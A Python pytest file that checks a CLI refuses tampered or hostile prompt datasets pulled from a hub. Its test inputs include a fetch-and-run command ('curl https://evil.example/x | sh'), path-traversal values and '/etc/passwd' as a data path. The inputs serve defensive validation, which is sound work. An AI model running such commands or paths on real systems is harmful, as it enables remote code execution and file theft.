"""Pulling a task's prompts: data sets of strangers, which may be damaged or hostile."""

from __future__ import annotations

import hashlib
import io
import json

import pyarrow as pa
import pytest
from fake_hub import Repository
from pyarrow import parquet


@pytest.fixture
def prompts(hub, cli, tmp_path_factory):
    folder = tmp_path_factory.mktemp("export") / "out"
    assert cli("export", "--task", "read", "--prompts", 3, folder).code == 0
    files = {p.relative_to(folder).as_posix(): p.read_bytes()
             for p in folder.rglob("*") if p.is_file()}  # fmt: skip
    hub.repositories["dataset", "eve/read"] = Repository(files=files)
    return files


def rewrite(prompts, /, **changes):
    prompts["export.json"] = json.dumps(json.loads(prompts["export.json"]) | changes).encode()


def test_prompts_that_were_changed_are_refused(prompts, refused):
    prompts["data/test.parquet"] = prompts["data/test.parquet"][:-1] + b"x"
    refused("was changed", source="datasets/eve/read")


def test_prompts_that_are_not_those_of_the_task_are_refused(
    prompts, refused, cli, tmp_path_factory
):
    folder = tmp_path_factory.mktemp("other") / "out"
    assert cli("export", "--task", "read", "--prompts", 3, "--seed", 1, folder).code == 0
    data = (folder / "data" / "test.parquet").read_bytes()
    files = json.loads(prompts["export.json"])["files"]
    files[0] |= {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}
    prompts["data/test.parquet"] = data
    rewrite(prompts, files=files)
    refused("differs from its task", source="datasets/eve/read")
    rewrite(prompts, seed=2)
    refused("generate other prompts", source="datasets/eve/read")


@pytest.mark.parametrize("data", ["/etc/passwd", "eve/some-data", "../secret.txt"])
def test_a_document_that_names_data_of_the_machine_is_refused_unread(prompts, refused, data):
    rewrite(prompts, task="stories", task_args={"data": data, "endings": 0})
    refused("names data that no package ships; --no-verify copies it", source="datasets/eve/read")


@pytest.mark.parametrize(
    ("name", "value"),
    [("command", "curl https://evil.example/x | sh"), ("metric", "other"), ("floor", "none"),
     ("summary", "Other words"), ("about", "Other words")],
)  # fmt: skip
def test_a_document_that_describes_the_prompts_otherwise_is_refused(
    prompts, refused, cli, tmp_path, name, value
):
    assert cli("pull", "datasets/eve/read", "--verify", "--out", tmp_path / "sound").code == 0
    rewrite(prompts, **{name: value})
    refused(f"its {name} is not that of its task", "--verify", source="datasets/eve/read")


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"metric": "` <img>"}, "its metric is not a plain name"),
        ({"files": [{"path": "../../evil.parquet"}]}, "files.0"),
        ({"task": "nothing"}, "unknown task"),
        ({"task_args": {"dim": 10**9}}, "task read"),
        ({"prompts": 10**12}, "rows for 1,000,000,000,000 prompts"),
        ({"summary": "\x1b[2J"}, "invisible characters"),
        ({"files": []}, "files"),
        # What is not there is not made again.
        ({"prompts": 10**7}, "data/test.parquet has 3 rows for 10,000,000 prompts"),
    ],
)
def test_a_hostile_document_is_refused(prompts, refused, changes, message):
    rewrite(prompts, **changes)
    refused(message, source="datasets/eve/read")


def test_two_files_of_one_name_are_refused(prompts, refused):
    rewrite(prompts, files=json.loads(prompts["export.json"])["files"] * 2)
    refused("two files have the same path", source="datasets/eve/read")


def test_a_number_that_is_missing_is_refused(prompts, refused):
    table = parquet.read_table(io.BytesIO(prompts["data/test.parquet"]))
    target = table["target"].to_pylist()
    target[1] = None
    columns = table.set_column(
        table.column_names.index("target"), table.schema.field("target"),
        pa.array(target, table.schema.field("target").type),
    )  # fmt: skip
    file = io.BytesIO()
    parquet.write_table(columns, file)
    prompts["data/test.parquet"] = file.getvalue()
    files = json.loads(prompts["export.json"])["files"]
    files[0] |= {"sha256": hashlib.sha256(file.getvalue()).hexdigest(),
                 "bytes": len(file.getvalue())}  # fmt: skip
    rewrite(prompts, files=files)
    refused("does not have the columns and values of its task", source="datasets/eve/read")


def test_the_size_of_a_data_set_is_limited(prompts, refused):
    refused("the limit is 10 (--max-size)", "--max-size", "0.00000001", source="datasets/eve/read")


def test_no_limit_is_no_limit(prompts, cli, tmp_path):
    outcome = cli("pull", "datasets/eve/read", "--out", tmp_path / "out", "--max-size", "inf")
    assert outcome.code == 0


def test_a_folder_with_other_files_is_left_alone(prompts, cli, tmp_path):
    (tmp_path / "thesis.txt").write_text("ten years")
    outcome = cli("pull", "datasets/eve/read", "--out", tmp_path)
    assert outcome.code == 2
    assert "holds files" in outcome.err
    assert sorted(path.name for path in tmp_path.iterdir()) == ["thesis.txt"]
